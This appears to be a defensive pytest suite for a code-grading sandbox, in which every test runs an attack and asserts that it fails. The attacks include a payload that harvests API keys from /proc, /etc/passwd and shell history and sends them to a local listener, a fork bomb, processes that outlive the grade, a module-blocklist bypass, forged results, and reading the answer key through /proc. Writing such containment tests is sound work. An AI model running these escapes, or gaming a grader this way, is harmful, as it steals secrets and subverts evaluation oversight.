"""Attacks on the code_tests sandbox (issue 31): each must fail.

Most attacks run twice: with both walls, and with the audit hook switched off (`_AUDIT = False`), so the
OS isolation is shown to hold on its own — as it must when the code finds a way around the interpreter's
checks. Where bubblewrap cannot isolate here the OS-wall tests skip, saying so; CI installs bubblewrap
(.ci/run) and runs them all, as root, and `test_attacks_fail_as_an_unprivileged_user` repeats the core
attacks as uid 65534 (bwrap in a user namespace) when the suite runs as root.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

import graders.sandbox as sandbox
from graders import grade
from graders.codetests import UNISOLATED
from graders.sandbox import NotRun, isolation, run_function

ISOLATED = isolation().available
needs_isolation = pytest.mark.skipif(not ISOLATED, reason=f"no OS isolation here: {isolation().reason}")
SECRET = "sk-proj-attack0123456789abcdefSECRET"
WALLS = [pytest.param(True, id="both-walls"), pytest.param(False, id="os-wall-alone")]


@pytest.fixture
def walls(request, monkeypatch):
    monkeypatch.setattr(sandbox, "_AUDIT", request.param)
    return request.param


def _case(tests, wall_seconds=6):
    return {"id": "t", "family": "f", "category": "reasoning", "modality": "text", "prompt": "Write f(n).",
            "truth": {"kind": "structured", "value": {"function": "f", "tests": tests}},
            "grader": {"name": "code_tests", "args": {"wall_seconds": wall_seconds}}}


DOUBLE = _case([[[1], 2], [[5], 10], [[-3], -6]])


def _grade(code, case=DOUBLE):
    return grade(case, {"content": f"```python\n{code}\n```", "finish_reason": "stop"})


class Listener:
    """A TCP listener on loopback and an abstract unix socket: counts whoever connects."""

    def __init__(self):
        self.hits = 0
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.name = f"\0assetgen-attack-{os.getpid()}"
        self.unix.bind(self.name)
        for s in (self.tcp, self.unix):
            s.listen(8)
            s.settimeout(0.2)
        self.stop = False
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while not self.stop:
            for s in (self.tcp, self.unix):
                try:
                    conn, _ = s.accept()
                except (TimeoutError, OSError):
                    continue
                self.hits += 1
                conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.tcp.close()
        self.unix.close()


@pytest.fixture
def listener():
    found = Listener()
    yield found
    found.close()


# An escape that got past the interpreter: look for keys in every process's environment and command line,
# the grader's working folder through /proc, files of the host, and the network by every route.
ESCAPE = r'''
import os, sys, glob
def f(n):
    seen = []
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            seen.append(open(path, "rb").read().decode("latin-1"))
        except Exception as exc:
            seen.append("denied " + path)
    for path in glob.glob("/proc/*/cwd/*") + [{secret_file!r}, "/etc/passwd", "/root/.bash_history"]:
        try:
            seen.append(open(path, "rb").read(4096).decode("latin-1"))
        except Exception:
            pass
    import socket
    for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET6, ("::1", {port})),
                            (socket.AF_UNIX, {unix!r})):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(address)
            s.sendall(repr(seen).encode())
            seen.append("connected")
        except Exception as exc:
            seen.append("no network: " + type(exc).__name__)
    return seen
'''


@needs_isolation
@pytest.mark.parametrize("walls", WALLS, indirect=True)
def test_an_escape_finds_no_key_no_file_and_no_network(walls, listener, tmp_path, monkeypatch):
    for name in ("OPENAI_API_KEY", "ASSETGEN_API_KEY"):
        monkeypatch.setenv(name, SECRET)
    secret_file = tmp_path / "cases.jsonl"
    secret_file.write_text(SECRET)
    monkeypatch.chdir(tmp_path)  # the grader's cwd holds the 'cases'
    code = ESCAPE.format(secret_file=str(secret_file), port=listener.port, unix=listener.name)
    outcome = run_function(code, "f", [[1]])
    text = json.dumps(outcome.results)
    assert SECRET not in text and "connected" not in text
    time.sleep(0.3)
    assert listener.hits == 0
    if not walls:  # the OS alone: the code ran, looked, and found nothing of the host
        assert outcome.results[0]["ok"], outcome
        assert text.count("no network") == 3


MARKER = "assetgen-survivor-7f3a"


def _host_processes_with(marker: str, wait: float = 3.0) -> list[str]:
    deadline = time.monotonic() + wait
    while True:
        found = []
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if marker.encode() in path.read_bytes():
                    found.append(path.parent.name)
            except OSError:
                pass
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


@needs_isolation
def test_nothing_the_code_starts_outlives_the_grade(monkeypatch):
    """The issue's escape: a child started in its own session, still running after the grade returned."""
    monkeypatch.setattr(sandbox, "_AUDIT", False)
    code = ("import os, subprocess, sys\ndef f(n):\n    subprocess.Popen([sys.executable, '-c', "
            f"'import time; time.sleep(60)', {MARKER!r}], start_new_session=True)\n    return 2 * n")
    outcome = run_function(code, "f", [[1]])
    assert outcome.status == "ok"
    assert _host_processes_with(MARKER) == []
    forever = code.replace("return 2 * n", "while True: pass")
    assert run_function(forever, "f", [[1]], wall_seconds=2).status == "timeout"
    assert _host_processes_with(MARKER) == []


def _processes_of(uid: int) -> int:
    count = 0
    for path in Path("/proc").glob("[0-9]*/status"):
        try:
            if f"\nUid:\t{uid}\t" in path.read_text():
                count += 1
        except OSError:
            pass
    return count


@needs_isolation
@pytest.mark.parametrize("walls", WALLS, indirect=True)
def test_a_fork_loop_is_contained_and_gone(walls):
    before = _processes_of(sandbox.SANDBOX_UID)
    start = time.monotonic()
    outcome = run_function("import os\ndef f(n):\n    while True:\n        os.fork()", "f", [[1]], wall_seconds=3)
    assert time.monotonic() - start < 30
    assert outcome.status != "ok" or not outcome.results[0]["ok"]
    deadline = time.monotonic() + 5
    while _processes_of(sandbox.SANDBOX_UID) > before and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _processes_of(sandbox.SANDBOX_UID) <= before


@needs_isolation
@pytest.mark.parametrize("walls", WALLS, indirect=True)
def test_no_file_is_made_outside_the_sandbox(walls, tmp_path):
    targets = {kind: tmp_path / kind for kind in ("fifo", "node", "db", "plain")}
    code = f'''
import os, stat
def f(n):
    done = []
    for act in (lambda: os.mkfifo({str(targets["fifo"])!r}),
                lambda: os.mknod({str(targets["node"])!r}, stat.S_IFREG | 0o600),
                lambda: __import__("sqlite3").connect({str(targets["db"])!r}).execute("create table t(x)"),
                lambda: open({str(targets["plain"])!r}, "w").write("x"),
                lambda: open("/tmp/assetgen-attack-{os.getpid()}", "w").write("x")):
        try:
            act()
            done.append("made")
        except Exception as exc:
            done.append(type(exc).__name__)
    return done
'''
    outcome = run_function(code, "f", [[1]])
    assert outcome.status == "ok"
    assert not any(path.exists() for path in targets.values())
    assert not Path(f"/tmp/assetgen-attack-{os.getpid()}").exists()  # the sandbox's /tmp is its own


BLOCKED_EXTENSIONS = ("_posixsubprocess", "_socket", "_ctypes", "mmap", "select", "fcntl", "_multiprocessing",
                      "_sqlite3", "resource", "termios", "_ssl")


def _extension(name: str) -> str | None:
    import importlib.util

    spec = importlib.util.find_spec(name)
    origin = getattr(spec, "origin", None) if spec else None
    return origin if origin and origin.endswith(".so") else None


@pytest.mark.parametrize("name", [n for n in BLOCKED_EXTENSIONS if _extension(n)])
def test_a_blocked_module_under_a_dotted_alias_is_refused(name):
    """The issue's escape: ExtensionFileLoader('x._posixsubprocess', path) slipped past exact names."""
    code = f'''
import importlib.machinery, importlib.util
def f(n):
    loader = importlib.machinery.ExtensionFileLoader("x.{name}", {_extension(name)!r})
    module = importlib.util.module_from_spec(importlib.util.spec_from_loader("x.{name}", loader))
    return sorted(dir(module))[:3]
'''
    outcome = run_function(code, "f", [[1]])
    assert outcome.results and not outcome.results[0]["ok"], outcome
    assert "not allowed" in outcome.results[0]["error"]


@pytest.mark.parametrize("code", [
    # the forgery: the old marker with a malformed payload, then leave
    "import os, sys\ndef f(n):\n    os.write(1, b'\\x1eASSETGEN-RESULT\\x1e[]\\n')\n    os._exit(0)",
    "import os\ndef f(n):\n    os.write(3, b'{\"defined\": true, \"results\": 5}\\n')\n    os._exit(0)",
    "import os\ndef f(n):\n    os.write(2, b'bwrap: Creating new namespace failed\\n')\n    os._exit(1)",
    "import os\ndef f(n):\n    os.abort()",
    "import os\ndef f(n):\n    os._exit(0)",
    "import sys\ndef f(n):\n    sys.exit(0)",
    "def f(n):\n    return float('nan') if n > 1 else 2",
], ids=["old-marker", "fd3-malformed", "fake-bwrap-error", "abort", "exit0", "sys-exit", "nan"])
@pytest.mark.parametrize("walls", WALLS, indirect=True)
def test_a_forged_or_missing_result_is_the_codes_failure(code, walls):
    if not walls and not ISOLATED:
        pytest.skip(f"no OS isolation here: {isolation().reason}")
    got = _grade(code)
    assert got.verdict == "incorrect", got  # never `error`, which accuracy leaves out; never correct


@needs_isolation
def test_a_result_erased_after_the_harness_wrote_it_is_the_codes_failure(monkeypatch):
    """Code that runs after the harness (atexit) and truncates the result: missing, so incorrect, never error."""
    monkeypatch.setattr(sandbox, "_AUDIT", False)
    got = _grade("import atexit, os\natexit.register(lambda: os.ftruncate(3, 0))\ndef f(n):\n    return 2 * n")
    assert got.verdict == "incorrect" and "before any result" in got.explanation


@needs_isolation
@pytest.mark.parametrize("walls", WALLS, indirect=True)
def test_the_tests_cannot_be_looked_up(walls, tmp_path, monkeypatch):
    """The issue's forgery: walk /proc/<ppid>/cwd to cases.jsonl and answer from the truth."""
    (tmp_path / "cases.jsonl").write_text(json.dumps(DOUBLE) + "\n")
    monkeypatch.chdir(tmp_path)
    code = '''
import glob, json
def f(n):
    for path in glob.glob("/proc/*/cwd/cases.jsonl") + glob.glob("/proc/*/root/*/cases.jsonl"):
        try:
            case = json.loads(open(path).read().splitlines()[0])
        except Exception:
            continue
        for args, want in case["truth"]["value"]["tests"]:
            if args == [n]:
                return want
    return None
'''
    assert _grade(code).verdict == "incorrect"


@needs_isolation
def test_the_code_runs_as_nobody_in_its_own_namespaces(monkeypatch):
    monkeypatch.setattr(sandbox, "_AUDIT", False)
    code = ("import os\ndef f(n):\n    return [os.getuid(), os.getgid(), os.getgroups(), sorted(os.listdir('/')), "
            "os.access('/', os.W_OK), os.access('/usr/lib', os.W_OK), sorted(os.environ)]")
    outcome = run_function(code, "f", [[1]])
    uid, gid, groups, top, root_writable, lib_writable, env = outcome.results[0]["value"]
    assert (uid, gid, groups) == (sandbox.SANDBOX_UID, sandbox.SANDBOX_GID, [])
    assert set(top) <= {"dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "root", "tmp", "usr", "home", "opt"}
    assert not root_writable and not lib_writable
    assert set(env) <= {"PWD", "LC_CTYPE"}
    hidden = run_function("import os, sysconfig\ndef f(n):\n    return os.listdir(sysconfig.get_paths()['purelib'])",
                          "f", [[1]]).results[0]
    assert not hidden["ok"] or hidden["value"] == []


def _without_isolation(monkeypatch, reason="bubblewrap (bwrap) is not installed"):
    monkeypatch.setattr(sandbox, "isolation", lambda: sandbox.Isolation(False, reason))


def test_without_isolation_code_is_not_run_and_the_grade_says_why(monkeypatch, tmp_path):
    _without_isolation(monkeypatch)
    monkeypatch.setattr(sandbox, "_ALLOW_UNISOLATED", False)
    monkeypatch.delenv("ASSETGEN_ALLOW_UNISOLATED_CODE", raising=False)
    target = tmp_path / "ran"
    got = _grade(f"def f(n):\n    open({str(target)!r}, 'x')\n    return 2 * n")
    assert got.verdict == "error" and got.explanation.startswith("code not run: bubblewrap")
    assert "--allow-unisolated-code" in got.explanation and not target.exists()
    with pytest.raises(NotRun):
        run_function("def f(n):\n    return n", "f", [[1]])


def test_the_risk_accepted_runs_the_code_and_says_so(monkeypatch):
    _without_isolation(monkeypatch)
    sandbox.allow_unisolated(True)
    try:
        got = _grade("def f(n):\n    return 2 * n")
    finally:
        sandbox.allow_unisolated(False)
    assert got.verdict == "correct" and got.explanation.startswith(UNISOLATED)


def test_a_bwrap_that_cannot_isolate_is_found_out(monkeypatch, tmp_path):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}{os.environ.get('PATH', '')}")
    sandbox.isolation.cache_clear()
    try:
        found = sandbox.isolation()
    finally:
        sandbox.isolation.cache_clear()
    assert not found.available and "No permissions to create new namespace" in found.reason


USER_ATTACK = r'''
import json, os, sys
sys.path.insert(0, sys.argv[1])
import sandbox
sandbox._AUDIT = False
where = sandbox.isolation()
escape = open(sys.argv[2]).read()
out = sandbox.run_function(escape, "f", [[1]])
busy = sandbox.run_function("def f(n):\n    while True:\n        pass", "f", [[1]],
                            wall_seconds=sandbox.CPU_SECONDS + 3.0)
print(json.dumps({"uid": os.getuid(), "available": where.available, "reason": where.reason, "drop": where.drop,
                  "status": out.status, "results": out.results, "busy": [busy.status, busy.error]}))
'''


@needs_isolation
@pytest.mark.skipif(os.geteuid() != 0, reason="runs as root to become an unprivileged user")
@pytest.mark.skipif(not Path("/usr/bin/python3").exists(), reason="needs the system's /usr/bin/python3 for uid 65534")
def test_attacks_fail_as_an_unprivileged_user(tmp_path, listener):
    """bwrap as an ordinary user builds a user namespace instead of dropping root: the same walls must hold."""
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="assetgen-user-attack-"))  # pytest's tmp_path is root's alone
    shutil.copy(Path(sandbox.__file__), folder / "sandbox.py")
    secret_file = folder / "secret.txt"  # readable by uid 65534 on the host, so only the sandbox hides it
    secret_file.write_text(SECRET)
    (folder / "escape.py").write_text(ESCAPE.format(secret_file=str(secret_file), port=listener.port,
                                                     unix=listener.name))
    for path in (folder, *folder.iterdir()):
        path.chmod(0o755)
    try:
        done = subprocess.run(["/usr/bin/python3", "-I", "-c", USER_ATTACK, str(folder), str(folder / "escape.py")],
                              capture_output=True, text=True, timeout=120, user=sandbox.SANDBOX_UID,
                              group=sandbox.SANDBOX_GID, extra_groups=[],
                              env={"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": SECRET})
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    if done.returncode != 0:
        pytest.fail(f"the user-mode run failed: {done.stderr[-500:]}")
    report = json.loads(done.stdout.strip().splitlines()[-1])
    if not report["available"]:
        pytest.skip(f"no user namespaces for an unprivileged user here: {report['reason']}")
    assert report["uid"] == sandbox.SANDBOX_UID and report["drop"] is False and report["status"] == "ok"
    assert report["busy"][0] == "timeout", report["busy"]  # the code is its namespace's init: no SIGXCPU
    text = json.dumps(report["results"])
    assert SECRET not in text and "connected" not in text and text.count("no network") == 3
    assert listener.hits == 0
